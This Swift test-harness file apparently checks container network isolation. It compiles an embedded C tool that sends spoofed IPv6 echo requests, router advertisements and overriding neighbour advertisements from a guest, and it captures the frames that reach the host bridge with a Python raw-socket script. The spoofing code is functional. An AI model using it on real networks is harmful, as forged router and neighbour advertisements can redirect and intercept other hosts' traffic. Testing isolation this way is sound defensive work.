import Foundation

/// A guest that owns its network stack, as a privileged container is one: `v6attack` (a static C
/// program built here) sends IPv6 frames built whole on eth0 from the NIC's own MAC with any source
/// address: an echo request, a router advertisement, a neighbour advertisement for any target. The
/// capture watches what reaches the host's side (the pod network's bridge).
enum IPv6Attack {
    /// Builds `v6attack` into `dir`; its path.
    static func build(in dir: String) throws -> String {
        try source.write(toFile: dir + "/v6attack.c", atomically: true, encoding: .utf8)
        let gcc = Process()
        gcc.executableURL = URL(fileURLWithPath: "/usr/bin/gcc")
        gcc.arguments = ["-static", "-O1", "-o", dir + "/v6attack", dir + "/v6attack.c"]
        try gcc.run()
        gcc.waitUntilExit()
        guard gcc.terminationStatus == 0 else { throw HarnessError("gcc could not build v6attack") }
        return dir + "/v6attack"
    }

    /// One IPv6 frame seen on the bridge: its source MAC and address, next header, ICMPv6 type
    /// (-1 when not ICMPv6) and a neighbour advertisement's target.
    struct Frame: CustomStringConvertible {
        var mac: String
        var source: String
        var nextHeader: Int
        var icmpType: Int
        var target: String
        var description: String { "\(mac) \(source) nh=\(nextHeader) type=\(icmpType) \(target)" }
    }

    /// Captures the IPv6 frames on `interface` while `body` runs (the capture is running first).
    static func capture(on interface: String, _ body: () async throws -> Void) async throws -> [Frame] {
        let script = NSTemporaryDirectory() + "v6capture-\(UUID().uuidString.prefix(8)).py"
        try captureScript.write(toFile: script, atomically: true, encoding: .utf8)
        defer { try? FileManager.default.removeItem(atPath: script) }  // test scratch space
        let stop = script + ".stop"
        let capture = try Command(["/usr/bin/python3", script, interface, stop])
        // sleep: a poll pause; the loop checks the condition
        for _ in 0..<100 where !capture.output.contains("ready") { try await Task.sleep(for: .milliseconds(50)) }
        guard capture.output.contains("ready") else { throw HarnessError("capture: \(capture.errors)") }
        try await body()
        try await Task.sleep(for: .milliseconds(500))  // sleep: frames in flight (no signal for their arrival)
        FileManager.default.createFile(atPath: stop, contents: nil)
        defer { try? FileManager.default.removeItem(atPath: stop) }  // test scratch space
        let result = try await capture.wait(timeout: .seconds(10))
        return result.out.split(separator: "\n").dropFirst().compactMap { line in
            let f = line.split(separator: " ", omittingEmptySubsequences: false).map(String.init)
            guard f.count == 5, let nh = Int(f[2]), let type = Int(f[3]) else { return nil }
            return Frame(mac: f[0], source: f[1], nextHeader: nh, icmpType: type, target: f[4])
        }
    }

    static let captureScript = #"""
        import os, socket, sys
        iface, stop = sys.argv[1], sys.argv[2]
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0003))
        s.bind((iface, 0))
        s.settimeout(0.1)
        print("ready", flush=True)
        while not os.path.exists(stop):
            try:
                f = s.recv(65535)
            except socket.timeout:
                continue
            if len(f) < 54 or f[12:14] != b"\x86\xdd":
                continue
            ip = f[14:]
            nh = ip[6]
            t = ip[40] if nh == 58 and len(ip) > 40 else -1
            target = socket.inet_ntop(socket.AF_INET6, ip[48:64]) if t == 136 and len(ip) >= 64 else ""
            print(f[6:12].hex(":"), socket.inet_ntop(socket.AF_INET6, ip[8:24]), nh, t, target, flush=True)
        """#

    static let source = #"""
        /* What a guest owning its network stack may send: IPv6 frames built whole (AF_PACKET), from the
           NIC's own MAC, with any source address. v6attack echo|ra|na SRC DST [TARGET] */
        #include <arpa/inet.h>
        #include <linux/if_packet.h>
        #include <net/ethernet.h>
        #include <net/if.h>
        #include <stdint.h>
        #include <stdio.h>
        #include <string.h>
        #include <sys/ioctl.h>
        #include <sys/socket.h>
        #include <unistd.h>

        static uint16_t checksum(const uint8_t *src, const uint8_t *dst, const uint8_t *icmp, size_t len) {
            uint32_t sum = 0;
            uint8_t pseudo[40] = {0};
            memcpy(pseudo, src, 16);
            memcpy(pseudo + 16, dst, 16);
            pseudo[34] = len >> 8; pseudo[35] = len & 0xff; pseudo[39] = 58;
            for (int i = 0; i < 40; i += 2) sum += pseudo[i] << 8 | pseudo[i + 1];
            for (size_t i = 0; i < len; i += 2) sum += icmp[i] << 8 | (i + 1 < len ? icmp[i + 1] : 0);
            while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
            return ~sum;
        }

        int main(int argc, char **argv) {
            if (argc < 4) { fprintf(stderr, "usage: v6attack echo|ra|na SRC DST [TARGET]\n"); return 2; }
            uint8_t src[16], dst[16], target[16] = {0};
            if (inet_pton(AF_INET6, argv[2], src) != 1 || inet_pton(AF_INET6, argv[3], dst) != 1) return 2;
            if (argc > 4 && inet_pton(AF_INET6, argv[4], target) != 1) return 2;
            int fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IPV6));
            if (fd < 0) { perror("socket"); return 1; }
            struct ifreq ifr = {0};
            strcpy(ifr.ifr_name, "eth0");
            if (ioctl(fd, SIOCGIFINDEX, &ifr) < 0) { perror("SIOCGIFINDEX"); return 1; }
            int index = ifr.ifr_ifindex;
            if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0) { perror("SIOCGIFHWADDR"); return 1; }
            uint8_t icmp[64] = {0};
            size_t len = 0;
            if (strcmp(argv[1], "echo") == 0) {
                icmp[0] = 128; icmp[5] = 1; icmp[7] = 1; len = 16;
            } else if (strcmp(argv[1], "ra") == 0) {
                icmp[0] = 134; icmp[4] = 64; icmp[6] = 0x07; icmp[7] = 0x08; len = 16;  /* lifetime 1800 s */
            } else if (strcmp(argv[1], "na") == 0) {
                icmp[0] = 136; icmp[4] = 0x20;  /* override */
                memcpy(icmp + 8, target, 16);
                icmp[24] = 2; icmp[25] = 1; memcpy(icmp + 26, ifr.ifr_hwaddr.sa_data, 6);  /* target link-layer */
                len = 32;
            } else return 2;
            uint16_t sum = checksum(src, dst, icmp, len);
            icmp[2] = sum >> 8; icmp[3] = sum & 0xff;
            uint8_t packet[128] = {0x60};
            packet[4] = len >> 8; packet[5] = len & 0xff; packet[6] = 58; packet[7] = 255;
            memcpy(packet + 8, src, 16);
            memcpy(packet + 24, dst, 16);
            memcpy(packet + 40, icmp, len);
            struct sockaddr_ll to = {0};
            to.sll_family = AF_PACKET;
            to.sll_protocol = htons(ETH_P_IPV6);
            to.sll_ifindex = index;
            to.sll_halen = 6;
            uint8_t all_nodes[6] = {0x33, 0x33, 0, 0, 0, 1};
            memcpy(to.sll_addr, all_nodes, 6);
            for (int i = 0; i < 3; i++) {
                if (sendto(fd, packet, 40 + len, 0, (struct sockaddr *)&to, sizeof to) < 0) {
                    perror("sendto");
                    return 1;
                }
                usleep(100000);  /* sleep: paces the three frames */
            }
            puts("sent");
            return 0;
        }
        """#
}
